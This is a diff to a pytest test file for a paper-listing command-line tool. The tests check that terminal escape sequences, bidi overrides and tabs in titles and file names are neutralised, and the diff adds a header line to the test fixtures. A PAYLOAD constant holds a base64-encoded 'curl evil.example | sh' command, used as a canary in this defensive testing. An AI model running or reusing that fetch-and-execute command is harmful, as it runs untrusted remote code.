@@ -23,6 +23,7 @@ from paperterm.identity import paper_id
 from paperterm.loader import load
 from paperterm.sanitize import has_controls
 
+HEADER = "Get trending papers in your email inbox!\n"
 PAYLOAD = "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA"  # base64 of a command: must never be seen anywhere
 
 ATTACKS = {
@@ -122,7 +123,7 @@ def test_escape_sequences_in_a_dangling_title_never_reach_its_warning(
 ) -> None:
     path = tmp_path / "dangling.txt"
     page = "".join(f"Title {n}\nAbstract {n} of an ordinary length for a page.\n" for n in range(5))
-    path.write_text(f"{page}Last title {attack} left alone\n", encoding="utf-8")
+    path.write_text(f"{HEADER}{page}Last title {attack} left alone\n", encoding="utf-8")
     for command in ("list", "stats"):
         status, out, err = cli(capsys, command, str(path), "--state", str(tmp_path / "s.json"))
         assert status == 0
@@ -135,7 +136,7 @@ def test_escape_sequences_in_a_file_name_never_reach_a_message(
     capsys: pytest.CaptureFixture[str], tmp_path: Path, attack: str
 ) -> None:
     good = tmp_path / "good.txt"
-    good.write_text("A Title\nAn abstract.\n", encoding="utf-8")
+    good.write_text(HEADER + "A Title\nAn abstract.\n", encoding="utf-8")
     bad = tmp_path / f"bad{attack.replace('/', '')}.txt"
     bad.write_bytes(b"")
     for argv in (["list", str(good), str(bad)], ["list", str(bad)], ["add", str(bad)]):
@@ -149,7 +150,7 @@ def test_escape_sequences_in_a_file_name_never_reach_an_export(
     capsys: pytest.CaptureFixture[str], tmp_path: Path, attack: str
 ) -> None:
     named = tmp_path / f"page{attack.replace('/', '')}.txt"
-    named.write_text("A Title\nAn abstract.\n", encoding="utf-8")
+    named.write_text(HEADER + "A Title\nAn abstract.\n", encoding="utf-8")
     for fmt in ("bibtex", "markdown", "csv", "json"):
         status, out, err = cli(
             capsys, "export", "--all", "-f", fmt, str(named), "--state", str(tmp_path / "s.json")
@@ -166,7 +167,7 @@ def test_bidi_overrides_never_reorder_the_list(
     capsys: pytest.CaptureFixture[str], tmp_path: Path, override: str
 ) -> None:
     path = tmp_path / "bidi.txt"
-    path.write_text(f"Safe {override}txt.exe Title\nAn abstract.\n", encoding="utf-8")
+    path.write_text(f"{HEADER}Safe {override}txt.exe Title\nAn abstract.\n", encoding="utf-8")
     status, out, _ = cli(capsys, "list", str(path), "--state", str(tmp_path / "s.json"))
     assert status == 0
     assert out.split("\t")[2] == "Safe txt.exe Title\n"
@@ -176,7 +177,7 @@ def test_a_tab_in_a_title_becomes_a_space(
     capsys: pytest.CaptureFixture[str], tmp_path: Path
 ) -> None:
     path = tmp_path / "tab.txt"
-    path.write_text("Fake\tsrr\tTitle\nAn\tabstract.\n", encoding="utf-8")
+    path.write_text(HEADER + "Fake\tsrr\tTitle\nAn\tabstract.\n", encoding="utf-8")
     status, out, _ = cli(capsys, "list", str(path), "--state", str(tmp_path / "s.json"))
     assert status == 0
     assert out.count("\t") == 2
